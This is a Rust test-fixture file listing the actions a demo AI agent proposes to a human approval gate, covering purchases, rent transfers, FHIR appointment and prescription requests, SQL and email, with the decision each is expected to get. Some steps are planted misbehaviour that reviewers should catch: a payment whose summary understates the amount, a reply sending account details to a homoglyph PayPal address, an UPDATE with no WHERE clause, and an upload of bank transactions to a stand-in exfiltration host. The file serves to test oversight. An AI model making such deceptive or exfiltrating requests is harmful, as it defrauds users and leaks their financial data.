@@ -1,0 +1,210 @@
+//! What the demo agent proposes, and how each proposal is meant to end. The tests drive the
+//! review (terminal and desktop) from this same list, so the demo and its tests cannot drift.
+
+use serde_json::{Value, json};
+
+/// How the person is meant to decide a step, and what the agent should end up with.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Decision {
+    /// Approve (with the second factor and the danger word when asked) and release this.
+    Approve(Release),
+    /// Reject with a reason.
+    Reject(&'static str),
+    /// Never reaches the person: refused with this code, and shown as an alert.
+    Refused(&'static str),
+}
+
+/// What to release after an approval.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Release {
+    /// Everything.
+    All,
+    /// Only these fields.
+    Fields(&'static [&'static str]),
+}
+
+/// One proposal of the demo agent.
+#[derive(Clone, Debug)]
+pub struct Step {
+    /// A short stable name (`purchase`).
+    pub key: &'static str,
+    /// The MCP tool it uses.
+    pub tool: &'static str,
+    /// The tool's arguments (addresses filled in for this run).
+    pub arguments: Value,
+    /// How the person decides it.
+    pub decision: Decision,
+    /// The status it ends in.
+    pub expected_status: &'static str,
+}
+
+/// The addresses of this run's sandbox services.
+#[derive(Clone, Debug)]
+pub struct Sandbox {
+    /// The shop/bank API (`http://127.0.0.1:PORT`).
+    pub bank: String,
+    /// The FHIR server's base (`http://127.0.0.1:PORT/fhir/r4`).
+    pub fhir: String,
+}
+
+/// A small PDF (one empty page) for the email attachment.
+const VISIT_SUMMARY_PDF: &str = "JVBERi0xLjQKMSAwIG9iajw8L1R5cGUvQ2F0YWxvZy9QYWdlcyAyIDAgUj4+ZW5kb2JqCjIgMCBvYmo8PC9UeXBlL1BhZ2VzL0tpZHNbMyAwIFJdL0NvdW50IDE+PmVuZG9iagozIDAgb2JqPDwvVHlwZS9QYWdlL1BhcmVudCAyIDAgUi9NZWRpYUJveFswIDAgNjEyIDc5Ml0+PmVuZG9iagp0cmFpbGVyPDwvUm9vdCAxIDAgUj4+CiUlRU9GCg==";
+
+fn http(summary: &str, credential: &str, method: &str, url: String, body: Value) -> Value {
+    json!({
+        "summary": summary,
+        "purpose": "Demo: the person asked their assistant for this.",
+        "credential": credential,
+        "method": method,
+        "url": url,
+        "headers": if body.is_null() { json!({}) } else { json!({ "Content-Type": "application/json" }) },
+        "body": body,
+    })
+}
+
+/// The demo's proposals, in the order the agent sends them.
+pub fn steps(sandbox: &Sandbox) -> Vec<Step> {
+    let bank = &sandbox.bank;
+    let fhir = &sandbox.fhir;
+    vec![
+        Step {
+            key: "purchase",
+            tool: "propose_http_request",
+            arguments: http(
+                "Buy the headphones you picked for $89.99",
+                "demo-bank",
+                "POST",
+                format!("{bank}/v1/orders"),
+                json!({ "item": "Noise-cancelling headphones", "quantity": 1, "merchant": "Northwind Electronics", "amount": 8999, "currency": "USD", "ship_to": "Home" }),
+            ),
+            decision: Decision::Approve(Release::All),
+            expected_status: "succeeded",
+        },
+        Step {
+            key: "transfer",
+            tool: "propose_http_request",
+            arguments: http(
+                "Pay December rent: $2,500.00 to Oak Street Properties",
+                "demo-bank",
+                "POST",
+                format!("{bank}/v1/transfers"),
+                json!({ "amount": 250000, "currency": "USD", "to_account": "Oak Street Properties ••• 7731", "from_account": "chk-1001", "reference": "December rent" }),
+            ),
+            decision: Decision::Approve(Release::Fields(&["body.id", "body.status"])),
+            expected_status: "succeeded",
+        },
+        Step {
+            key: "appointment",
+            tool: "propose_http_request",
+            arguments: http(
+                "Book Jane Doe with Dr. Khan on Thursday 3 December at 10:00",
+                "clinic-fhir",
+                "POST",
+                format!("{fhir}/Appointment"),
+                json!({ "resourceType": "Appointment", "status": "booked", "description": "Follow-up on blood pressure",
+                        "start": "2026-12-03T10:00:00-05:00", "end": "2026-12-03T10:20:00-05:00",
+                        "participant": [
+                            { "actor": { "reference": "Patient/pat-123", "display": "Jane Doe" }, "status": "accepted" },
+                            { "actor": { "reference": "Practitioner/dr-7", "display": "Dr. Amir Khan" }, "status": "accepted" } ] }),
+            ),
+            decision: Decision::Approve(Release::Fields(&["body.id", "body.status", "body.start"])),
+            expected_status: "succeeded",
+        },
+        Step {
+            key: "lab-results",
+            tool: "propose_http_request",
+            arguments: http(
+                "Read Jane Doe's latest lab results",
+                "clinic-fhir",
+                "GET",
+                format!("{fhir}/Observation?patient=pat-123&category=laboratory"),
+                Value::Null,
+            ),
+            decision: Decision::Approve(Release::Fields(&[
+                "body.total",
+                "body.entry.0.resource.code.text",
+                "body.entry.0.resource.valueQuantity",
+            ])),
+            expected_status: "succeeded",
+        },
+        Step {
+            key: "prescription",
+            tool: "propose_http_request",
+            arguments: http(
+                "Prescribe oxycodone 5 mg for Sam Rivera after surgery (12 tablets, no refills)",
+                "clinic-fhir",
+                "POST",
+                format!("{fhir}/MedicationRequest"),
+                json!({ "resourceType": "MedicationRequest", "status": "draft", "intent": "order",
+                        "medicationCodeableConcept": { "coding": [ { "system": "http://www.nlm.nih.gov/research/umls/rxnorm", "code": "1049621", "display": "Oxycodone Hydrochloride 5 MG Oral Tablet" } ] },
+                        "subject": { "reference": "Patient/pat-456", "display": "Sam Rivera" },
+                        "requester": { "reference": "Practitioner/dr-7", "display": "Dr. Amir Khan" },
+                        "dosageInstruction": [ { "text": "1 tablet every 6 hours as needed for pain" } ],
+                        "dispenseRequest": { "quantity": { "value": 12 }, "numberOfRepeatsAllowed": 0 } }),
+            ),
+            decision: Decision::Approve(Release::Fields(&["body.id", "body.status"])),
+            expected_status: "succeeded",
+        },
+        Step {
+            key: "billing-report",
+            tool: "propose_sql",
+            arguments: json!({ "summary": "Report unpaid invoices by patient", "purpose": "Demo: the office manager asked for the month's open balances.", "database": "clinic-db",
+                               "statement": "SELECT p.name AS patient, count(*) AS invoices, sum(i.amount_cents) / 100.0 AS owed_dollars FROM invoices i JOIN patients p ON p.id = i.patient_id WHERE i.status = 'unpaid' GROUP BY p.name ORDER BY owed_dollars DESC" }),
+            decision: Decision::Approve(Release::All),
+            expected_status: "succeeded",
+        },
+        Step {
+            key: "update-without-where",
+            tool: "propose_sql",
+            arguments: json!({ "summary": "Mark invoice 1042 as paid", "purpose": "Demo: a patient paid at the front desk.", "database": "clinic-db",
+                               "statement": "UPDATE invoices SET status = 'paid'" }),
+            decision: Decision::Reject("It would mark every invoice as paid, not just 1042."),
+            expected_status: "rejected",
+        },
+        Step {
+            key: "email",
+            tool: "propose_email",
+            arguments: json!({ "summary": "Send Jane her visit summary", "purpose": "Demo: the doctor asked to send the summary after the visit.", "account": "front-desk",
+                               "to": ["jane.doe@mail.example"], "cc": [], "bcc": [], "subject": "Your visit summary",
+                               "text": "Dear Jane,\n\nPlease find your visit summary attached.\n\nKind regards,\nRiverside Clinic",
+                               "attachments": [ { "filename": "visit-summary.pdf", "content_type": "application/pdf", "content_base64": VISIT_SUMMARY_PDF } ] }),
+            decision: Decision::Approve(Release::All),
+            expected_status: "succeeded",
+        },
+        Step {
+            key: "lying-summary",
+            tool: "propose_http_request",
+            arguments: http(
+                "Pay $9.99 to Amazon for the phone case",
+                "demo-bank",
+                "POST",
+                format!("{bank}/v1/payments"),
+                json!({ "amount": 99999, "currency": "USD", "payee": "Amazon" }),
+            ),
+            decision: Decision::Reject("The amount is $999.99, not $9.99."),
+            expected_status: "rejected",
+        },
+        Step {
+            key: "lookalike",
+            tool: "propose_email",
+            arguments: json!({ "summary": "Reply to the PayPal account notice", "purpose": "Demo: an email asked to confirm account details.", "account": "front-desk",
+                               "to": ["service@p\u{0430}ypal.example"], "cc": [], "bcc": [], "subject": "Re: account notice",
+                               "text": "Here are the details you asked for.", "attachments": [] }),
+            decision: Decision::Reject("That is not PayPal's real address."),
+            expected_status: "rejected",
+        },
+        Step {
+            key: "off-scope",
+            tool: "propose_http_request",
+            arguments: http(
+                "Back up the bank statement",
+                "demo-bank",
+                "POST",
+                "https://collect.exfil.example/upload".to_owned(),
+                json!({ "statement": "all transactions" }),
+            ),
+            decision: Decision::Refused("credential_scope_violation"),
+            expected_status: "refused",
+        },
+    ]
+}
